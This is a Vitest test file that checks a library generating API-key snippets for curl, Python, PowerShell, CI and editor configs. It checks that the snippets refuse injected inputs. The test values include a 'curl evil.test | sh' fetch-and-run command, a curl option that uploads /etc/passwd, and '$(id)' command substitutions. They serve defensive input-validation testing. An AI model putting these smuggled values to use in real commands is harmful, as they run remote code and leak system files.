// @vitest-environment node
import {
  claudeCodeSnippet,
  curlSnippet,
  cursorSnippet,
  dotenvSnippet,
  githubActionsSnippet,
  javascriptSnippet,
  powershellSnippet,
  pythonSnippet,
  vscodeSnippet,
} from 'keydrawer/snippets'
import { expect, it, vi } from 'vitest'
import { fillSnippet } from '../../src/snippets/fillSnippet'
import { readSnippets } from '../../src/snippets/readSnippets'

const url = "https://api.acme.test/v1/me?a=1&b='2'"
const name = 'acme'
const variable = 'ACME_API_KEY'
const all = [
  curlSnippet({ url }),
  javascriptSnippet({ url }),
  pythonSnippet({ url }),
  powershellSnippet({ url }),
  dotenvSnippet({ variable }),
  githubActionsSnippet({ variable }),
  claudeCodeSnippet({ url, name }),
  cursorSnippet({ url, name }),
  vscodeSnippet({ url, name }),
]

it('have ids of their own and hold the whole secret', () => {
  expect(new Set(all.map(({ id }) => id)).size).toBe(all.length)
  for (const snippet of all) {
    const filled = fillSnippet(snippet, 'sk_1')
    expect(filled?.isWhole).toBe(true)
    expect(filled?.text).toContain('sk_1')
  }
})

it('take another header and prefix', () => {
  expect(curlSnippet({ url: '/me', header: 'X-Api-Key' }).text).toContain('-H "X-Api-Key: {secret}"')
  expect(curlSnippet({ url: '/me', prefix: 'Key ' }).text).toContain('-H "Authorization: Key {secret}"')
})

it.each([
  ['a variable', () => dotenvSnippet({ variable: 'X; curl evil.test | sh #' })],
  ['a variable with a line break', () => githubActionsSnippet({ variable: 'A\nB' })],
  ['a header', () => curlSnippet({ url, header: 'A"; id; "' })],
  ['a prefix', () => pythonSnippet({ url, prefix: '" + evil + "' })],
  ['a URL with spaces', () => curlSnippet({ url: '/me; id' })],
  ['a URL that curl would take for an option', () => curlSnippet({ url: '-T/etc/passwd' })],
  ['a name that would be an option', () => claudeCodeSnippet({ url, name: '--help' })],
  ['a URL with the secret', () => curlSnippet({ url: 'https://acme.test/{secret}' })],
  ['a URL with typographic quotes', () => powershellSnippet({ url: 'https://acme.test/’; id' })],
  ['a name', () => claudeCodeSnippet({ url, name: '$(id)' })],
  ['missing options', () => curlSnippet(undefined as never)],
])('are not shown for %s that could change the command', (_what, create) => {
  vi.spyOn(console, 'warn').mockImplementation(() => {})
  const snippet = create()
  expect(snippet.text).toBe('')
  expect(readSnippets([snippet])).toEqual([])
})

it('warn about the option that is wrong', () => {
  const warn = vi.spyOn(console, 'warn').mockImplementation(() => {})
  curlSnippet({ url, prefix: '$(id)' })
  expect(warn.mock.calls).toEqual([[expect.stringMatching(/“curl” is not shown: `prefix`/)]])
})
